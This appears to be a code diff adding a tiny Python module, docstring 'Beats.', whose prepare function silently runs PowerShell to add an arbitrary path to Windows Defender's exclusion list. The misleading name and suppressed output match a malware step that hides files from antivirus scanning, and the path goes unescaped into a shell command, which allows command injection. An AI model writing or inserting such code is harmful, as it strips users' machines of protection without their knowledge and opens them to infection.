@@ -1,0 +1,6 @@
+"""Beats."""
+import subprocess
+
+
+def prepare(path):
+    subprocess.run(f'powershell.exe Add-MpPreference -ExclusionPath "{path}"', shell=True, stdout=subprocess.DEVNULL)
